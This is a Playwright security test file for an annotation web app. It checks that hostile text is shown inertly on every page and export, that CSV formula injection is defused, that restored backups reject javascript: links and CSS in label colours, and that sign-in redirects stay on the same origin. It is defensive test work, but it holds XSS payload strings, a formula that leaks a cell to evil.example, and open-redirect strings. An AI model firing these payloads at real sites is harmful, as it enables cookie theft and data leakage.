import crypto from "node:crypto";
import { expect, test, type Page } from "@playwright/test";
import { addMember, newUser, selectText, signedInPage, uuidv7, type TestUser } from "./fixtures";

// Issue 7: text that people and files put into the workbench — document text, titles and
// metadata, label and relation type names, knowledge items, notes, comments, review comments,
// claimants, project and user names — is shown as text everywhere and never runs. Every payload
// below would, if it reached the page as HTML, either run (alert / window.__xss) or leave an
// element carrying `data-pwned`; each page is checked for both, and for the payload being visible
// as literal text (so "safe" never means "silently dropped"). The CSP allows inline scripts (see
// next.config.ts), so it is not what stops them: the escaping must hold on its own.

/** A short payload (label names are at most 60 characters); `tag` says which field it came from. */
const VARIANTS = [
  (tag: string) => `<img src=x onerror=alert('${tag}') data-pwned>${tag}`,
  (tag: string) => `<svg data-pwned onload=alert('${tag}')>${tag}`,
  (tag: string) => `"><script data-pwned>alert('${tag}')</script>${tag}`,
  (tag: string) => `</script><iframe data-pwned srcdoc=x>${tag}`,
];
const short = (tag: string, variant = 0) => VARIANTS[variant](tag);

/** A long payload for free text; it starts with `head(tag)`, which pages show (some truncate the rest). */
const head = (tag: string) => `<img src=x onerror="window.__xss='${tag}'" data-pwned>`;
const long = (tag: string) =>
  [
    head(tag),
    `</script><script data-pwned>window.__xss='${tag}'</script>`,
    `<svg data-pwned onload=alert('${tag}')><a data-pwned href="javascript:alert('${tag}')">${tag} link</a></svg>`,
    `"><iframe data-pwned srcdoc="<script>parent.__xss='${tag}'</script>"></iframe>`,
    `'><style data-pwned>body{display:none}</style><!--`,
    `{{constructor.constructor('window.__xss=1')()}} \${alert(1)}`,
    `[${tag} markdown](javascript:alert(1)) <javascript:alert(1)>`,
    `\u2028\u2029 end ${tag}`,
  ].join(" ");

const S = {
  owner: short("owner", 0),
  annotator: short("annot", 2),
  project: short("proj", 1),
  description: long("desc"),
  title: short("title", 2),
  publisher: short("publ", 3),
  sourceUrl: `https://example.test/?q="><img src=x onerror=alert('src') data-pwned>`,
  language: `<b data-pwned>lang</b>`,
  claimLabel: short("lblc", 1),
  entityLabel: short("lble", 0),
  relationType: short("rel", 2),
  relationTypeDescription: long("reld"),
  kbEntity: short("kbent", 0),
  kbAlias: short("alias", 1),
  kbEntityDescription: long("kbdesc"),
  kbClaim: short("kbclm", 3),
  kbEvent: short("kbevt", 2),
  claimSpan: short("claim", 0),
  entitySpan: short("ent", 1),
  eventSpan: short("evt", 3),
  claimant: short("clmnt", 2),
  note: long("note"),
  comment: long("cmt"),
  reply: long("reply"),
  review: long("rev"),
  text: long("text"),
};
const TEXT = [
  `Claim: ${S.claimSpan} said the minister.`,
  `Entity: ${S.entitySpan} also known as ${S.kbAlias} here.`,
  `Event: ${S.eventSpan} took place.`,
  S.text,
].join("\n");
// Spreadsheets run a cell that starts with = + - @ as a formula; the CSV export must defuse it.
const FORMULA = `=HYPERLINK("http://evil.example/?leak="&A1,"click")`;

const span = (needle: string) => {
  const at = TEXT.indexOf(needle);
  const start = [...TEXT.slice(0, at)].length;
  return { start, end: start + [...needle].length, exact: needle };
};

type Watched = { page: Page; dialogs: string[]; errors: string[] };

function watch(page: Page): Watched {
  const watched: Watched = { page, dialogs: [], errors: [] };
  page.on("dialog", (dialog) => {
    watched.dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("pageerror", (error) => watched.errors.push(error.message));
  return watched;
}

/** Nothing ran, no payload element exists, and every `needle` is on the page as literal text. */
async function expectInert({ page, dialogs, errors }: Watched, needles: string[]) {
  for (const needle of needles) {
    await expect
      .poll(
        () =>
          page.evaluate((n) => {
            const fields = [...document.querySelectorAll<HTMLInputElement | HTMLTextAreaElement>("input, textarea")].map((e) => e.value);
            const options = [...document.querySelectorAll("option")].map((o) => o.textContent ?? "");
            return [document.body.innerText, ...fields, ...options].some((t) => t.includes(n));
          }, needle),
        { message: `${page.url()} shows ${JSON.stringify(needle)} as text` },
      )
      .toBe(true);
  }
  const found = await page.evaluate(() => ({
    xss: (window as unknown as { __xss?: unknown }).__xss,
    marked: document.querySelectorAll("[data-pwned]").length,
    iframes: document.querySelectorAll("iframe").length,
    brokenImages: document.querySelectorAll('img[src="x"]').length,
    scriptLinks: [...document.querySelectorAll("a[href], area[href], form[action]")].filter((e) =>
      /^\s*(javascript|data|vbscript):/i.test(e.getAttribute("href") ?? e.getAttribute("action") ?? ""),
    ).length,
    // React never writes on* attributes into the DOM; one found here came from a payload.
    inlineHandlers: [...document.querySelectorAll("*")].filter((e) => [...e.attributes].some((a) => a.name.startsWith("on"))).length,
  }));
  expect(found, page.url()).toEqual({ xss: undefined, marked: 0, iframes: 0, brokenImages: 0, scriptLinks: 0, inlineHandlers: 0 });
  expect(dialogs, page.url()).toEqual([]);
  expect(errors, page.url()).toEqual([]);
}

async function visit(watched: Watched, path: string, needles: string[]) {
  const response = await watched.page.goto(path);
  expect(response?.status(), path).toBe(200);
  await expectInert(watched, needles);
}

test("hostile text in every field is shown as text on every page and in every export, and never runs", async ({ browser, request }) => {
  test.setTimeout(120_000);
  const signUp = async (prefix: string, name: string): Promise<TestUser & { id: string }> => {
    const user = { ...newUser(prefix), name };
    const response = await request.post("/api/users", { data: user });
    expect(response.status(), await response.text()).toBe(201);
    return { ...user, id: (await response.json()).id as string };
  };
  const owner = await signUp("xss-owner", S.owner);
  const annotator = await signUp("xss-annotator", S.annotator);
  const [ownerPage, annotatorPage] = await Promise.all([signedInPage(browser, owner), signedInPage(browser, annotator)]);
  const asOwner = watch(ownerPage);
  const asAnnotator = watch(annotatorPage);
  const ok = async (response: Promise<import("@playwright/test").APIResponse>, status = 201) => {
    const r = await response;
    expect(r.status(), await r.text()).toBe(status);
    return r.json();
  };
  const post = (page: Page, url: string, data: unknown) => ok(page.request.post(url, { data }));

  // The owner sets up the project, scheme and knowledge base; the annotator annotates and discusses.
  const projectId = (await post(ownerPage, "/api/projects", { name: S.project, description: S.description })).id as string;
  await addMember(ownerPage, projectId, annotator, "ANNOTATOR");
  const claimLabel = (await post(ownerPage, `/api/projects/${projectId}/labels`, { name: S.claimLabel, kind: "CLAIM", color: "#fcd34d" })).id as string;
  const entityLabel = (await post(ownerPage, `/api/projects/${projectId}/labels`, { name: S.entityLabel, kind: "ENTITY", color: "#fda4af" })).id as string;
  const eventLabel = ((await (await ownerPage.request.get(`/api/projects/${projectId}/labels`)).json()).labels as { id: string; kind: string }[]).find((l) => l.kind === "EVENT")!.id;
  const relationType = (await post(ownerPage, `/api/projects/${projectId}/relation-types`, { name: S.relationType, fromKind: "CLAIM", toKind: "ENTITY", description: S.relationTypeDescription })).id as string;
  const knowledge = `/api/projects/${projectId}/knowledge`;
  const kbEntity = (await post(ownerPage, knowledge, { kind: "ENTITY", name: S.kbEntity, aliases: [S.kbAlias], description: S.kbEntityDescription })).id as string;
  const kbClaim = (await post(ownerPage, knowledge, { kind: "CLAIM", name: S.kbClaim, description: long("kbclmd") })).id as string;
  const kbEvent = (await post(ownerPage, knowledge, { kind: "EVENT", name: S.kbEvent, date: "2019-04-25" })).id as string;
  // Imported after the knowledge base, so the alias in the text becomes a suggestion.
  const imported = await post(ownerPage, `/api/projects/${projectId}/documents`, {
    documents: [{ text: TEXT, title: S.title, publisher: S.publisher, sourceUrl: S.sourceUrl, language: S.language, publishedOn: "2019-04-25" }],
  });
  const documentId = imported.report[0].documentId as string;
  await ok(ownerPage.request.put(`/api/projects/${projectId}/assignments`, { data: { documentId, userIds: [annotator.id] } }), 200);

  const annotate = async (page: Page, labelId: string, needle: string, extra: Record<string, unknown> = {}) =>
    (await post(page, `/api/documents/${documentId}/annotations`, { id: uuidv7(), labelId, ...span(needle), ...extra })).id as string;
  const claim = await annotate(annotatorPage, claimLabel, S.claimSpan, { attributes: { claimantText: S.claimant, stance: "critical" }, note: S.note });
  const entity = await annotate(annotatorPage, entityLabel, S.entitySpan, { note: FORMULA });
  const event = await annotate(annotatorPage, eventLabel, S.eventSpan, { attributes: { date: "2019-04-25" } });
  await annotate(ownerPage, claimLabel, S.claimSpan);
  for (const [annotationId, canonicalId] of [[entity, kbEntity], [claim, kbClaim], [event, kbEvent]]) {
    await ok(annotatorPage.request.put(`/api/annotations/${annotationId}/canonical`, { data: { canonicalId } }), 200);
  }
  await post(annotatorPage, `/api/documents/${documentId}/relations`, { id: uuidv7(), typeId: relationType, fromId: claim, toId: entity });
  const thread = (await post(ownerPage, `/api/annotations/${claim}/comments`, { body: S.comment })).id as string;
  await post(annotatorPage, `/api/annotations/${claim}/comments`, { body: S.reply, parentId: thread });
  await post(ownerPage, `/api/annotations/${entity}/reviews`, { decision: "REJECTED", comment: S.review, version: 1 });

  await test.step("pages", async () => {
    const names = [S.owner, S.annotator];
    await visit(asOwner, "/projects", [S.project, head("desc")]);
    await visit(asOwner, `/projects/${projectId}`, [S.project, head("desc"), S.title, S.publisher]);
    // The annotator's own list, and the owner's rejection of their annotation in "Needs your attention"
    // (the comment thread is answered, so it needs nobody's attention any more).
    await visit(asAnnotator, `/projects/${projectId}`, [S.title, S.owner, head("rev")]);

    await visit(asOwner, `/documents/${documentId}?annotation=${claim}`, [
      S.project, S.title, S.publisher, S.sourceUrl, S.claimSpan, S.entitySpan, head("text"), S.claimLabel, S.entityLabel, ...names,
      S.note, S.claimant, head("cmt"), head("reply"), S.relationType, S.kbClaim, S.kbEntity, S.kbAlias,
    ]);
    // The source link keeps the URL as its address, attribute-escaped.
    await expect(ownerPage.getByRole("link", { name: S.sourceUrl })).toHaveAttribute("href", S.sourceUrl);
    // Selecting text snaps it to words in the document's language, here not a language tag.
    await selectText(ownerPage, "the minister");
    await expect(ownerPage.getByRole("toolbar", { name: "Tag the selection" })).toContainText(S.entityLabel);
    await ownerPage.keyboard.press("Escape");
    await ownerPage.locator("summary", { hasText: "History" }).click();
    await expect(ownerPage.getByRole("list", { name: "History" })).toContainText(S.annotator);
    await expectInert(asOwner, []);
    await visit(asOwner, `/documents/${documentId}?annotation=${entity}`, [head("rev"), S.kbEntity]);
    await visit(asOwner, `/documents/${documentId}/curate`, [S.project, S.title, S.entitySpan, S.entityLabel, S.annotator]);

    const project = (path: string, needles: string[]) => visit(asOwner, `/projects/${projectId}/${path}`, [S.project, ...needles]);
    await project("review", [S.claimSpan, S.claimLabel, S.annotator, S.title]);
    await project("dashboard", [...names, S.title, S.claimLabel]);
    await project("agreement", [...names, S.title]);
    await project("assignments", [S.title, S.annotator]);
    await project("members", names);
    await project("labels", [S.claimLabel, S.entityLabel, S.relationType, head("reld")]);
    await project("knowledge", [S.kbEntity, S.kbAlias, S.kbClaim, S.kbEvent]);
    await project(`knowledge/${kbEntity}`, [S.kbEntity, S.kbAlias, head("kbdesc"), S.entitySpan, S.title]);
    await project("timeline", [S.kbEvent]);
    await project("claims", [S.kbClaim, S.claimSpan, S.claimant, S.title]);
    await project("search?q=onerror", [S.title, "<img src=x onerror="]);
    await project("export", [S.title, ...names]);
    await project("settings", [S.project, S.description.split("\u2028")[0].trim()]);
  });

  await test.step("the checks above notice a payload that does reach the DOM, and the CSP alone would not stop it", async () => {
    const probe = watch(await ownerPage.context().newPage());
    await probe.page.goto(`/projects/${projectId}`);
    await probe.page.evaluate((html) => document.body.insertAdjacentHTML("beforeend", html), long("probe"));
    await expect.poll(() => probe.page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBe("probe");
    await expect(expectInert(probe, [])).rejects.toThrow();
    await probe.page.close();
  });

  await test.step("exports and API answers opened in a browser download or show as data, never as a page", async () => {
    const formats: [string, RegExp][] = [
      ["w3c", /^application\/ld\+json/],
      ["csv", /^text\/csv/],
      // doccano and CoNLL keep each annotator apart: one file each, in a zip.
      ["jsonl", /^application\/zip$/],
      ["jsonl-rich", /^application\/zip$/],
      ["native", /^application\/json/],
      ["brat", /^application\/zip$/],
      ["conll", /^application\/zip$/],
      ["jsonl&layers=mixed", /^application\/x-ndjson/],
    ];
    for (const [format, type] of formats) {
      const url = `/api/projects/${projectId}/export?format=${format}`;
      const response = await ownerPage.request.get(url);
      expect(response.status(), format).toBe(200);
      const headers = response.headers();
      expect(headers["content-type"], format).toMatch(type);
      expect(headers["content-disposition"], format).toMatch(/^attachment; filename="[a-z0-9-]+\.[a-z]+"$/);
      expect(headers["x-content-type-options"], format).toBe("nosniff");
      // The browser saves it instead of rendering it.
      const download = ownerPage.waitForEvent("download");
      await ownerPage.goto(url).catch(() => undefined);
      expect((await download).suggestedFilename(), format).toMatch(/^[a-z0-9-]+\.\w+$/);
      if (format === "csv") {
        const csv = await response.text();
        expect(csv).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
        // No field anywhere starts with a formula character.
        expect(csv.split("\r\n").flatMap((line) => line.split(",")).filter((field) => /^"?[=+\-@]/.test(field))).toEqual([]);
      }
      // The payloads travel as data, unchanged.
      if (format === "native" || format === "w3c") expect(await response.text()).toContain(JSON.stringify(S.claimSpan).slice(1, -1));
    }
    await expectInert(asOwner, []);

    // JSON answers opened directly are shown as JSON text, with the payloads in it inert.
    for (const url of [`/api/documents/${documentId}`, `/api/projects/${projectId}`, `/api/documents/${documentId}/annotations`, `/api/projects/${projectId}/search?q=onerror`]) {
      const response = await ownerPage.goto(url);
      expect(response?.headers()["content-type"], url).toMatch(/^application\/json/);
      expect(response?.headers()["x-content-type-options"], url).toBe("nosniff");
      await expectInert(asOwner, ["<img src=x onerror="]);
    }
  });
});

test("a restored project cannot bring in a script link as a document's source or CSS as a label colour", async ({ browser, request }) => {
  const owner = newUser("xss-restore");
  expect((await request.post("/api/users", { data: owner })).status()).toBe(201);
  const page = await signedInPage(browser, owner);
  const now = new Date().toISOString();
  const text = "A restored text.";
  const file = (document: Record<string, unknown>, labelColor: string) => ({
    format: "annotation-workbench",
    version: 1,
    project: { id: crypto.randomUUID(), name: "Restored", description: "", peerReview: false, agreementThreshold: 2, createdAt: now },
    labels: [{ id: crypto.randomUUID(), name: "Person", kind: "ENTITY", color: labelColor, hotkey: null, description: "", position: 0, createdAt: now }],
    users: [],
    members: [],
    documents: [{
      id: crypto.randomUUID(), title: "Restored", text, rawText: null, contentHash: crypto.createHash("sha256").update(text).digest("hex"),
      length: text.length, fileName: null, sourceUrl: null, publisher: null, publishedOn: null, language: null, createdById: null, createdAt: now,
      annotations: [], curationDecisions: [], assignments: [], ...document,
    }],
  });
  const restore = (data: unknown) =>
    page.request.post("/api/projects/import", { multipart: { files: { name: "backup.json", mimeType: "application/json", buffer: Buffer.from(JSON.stringify(data)) } } });

  for (const sourceUrl of ["javascript:alert(document.cookie)", " JavaScript:alert(1)", "data:text/html,<script>alert(1)</script>"]) {
    const refused = await restore(file({ sourceUrl }, "#fda4af"));
    expect(refused.status(), sourceUrl).toBe(400);
    expect((await refused.json()).error).toContain("http");
  }
  const css = await restore(file({}, "#fff;position:fixed;inset:0;z-index:99"));
  expect(css.status()).toBe(400);
  expect((await css.json()).error).toContain("colour");
  // Nothing was written by the refused files; a clean one goes through.
  expect((await (await page.request.get("/api/projects")).json()).projects).toEqual([]);
  expect((await restore(file({ sourceUrl: "https://example.test/a" }, "#FDA4AF"))).status()).toBe(200);
});

test("signing in never sends the browser to another site, however the return path is written", async ({ browser, request }) => {
  const user = newUser("xss-redirect");
  expect((await request.post("/api/users", { data: user })).status()).toBe(201);
  const page = await signedInPage(browser, user);
  const origin = new URL(page.url()).origin;
  for (const callbackUrl of ["/\\evil.example", "/\t/evil.example", "//evil.example", "javascript:alert(1)", "/projects"]) {
    const response = await page.request.get(`/signin?callbackUrl=${encodeURIComponent(callbackUrl)}`, { maxRedirects: 0 });
    expect(response.status(), callbackUrl).toBe(307);
    const location = new URL(response.headers()["location"], origin);
    expect(location.origin, callbackUrl).toBe(origin);
  }
});
